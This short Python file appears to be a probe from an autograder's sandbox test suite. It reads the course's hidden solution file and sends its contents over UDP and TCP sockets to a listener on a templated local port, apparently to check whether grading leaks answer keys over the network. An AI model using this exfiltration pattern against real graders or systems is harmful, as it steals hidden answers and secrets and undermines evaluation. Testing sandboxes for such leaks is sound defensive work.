"""aims at: the hidden checks, sent to a listener over the network
cell: before tally
worth: 0
"""

import socket

try:
    with open("@COURSE@/solutions/@ASSIGNMENT@/@ASSIGNMENT@.md", "rb") as file:
        text = file.read()
except OSError:
    text = b"nothing"
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    try:
        with socket.socket(socket.AF_INET, kind) as out:
            out.connect(("127.0.0.1", int("@PORT@")))
            out.sendall(text)
    except OSError as error:
        print(error)
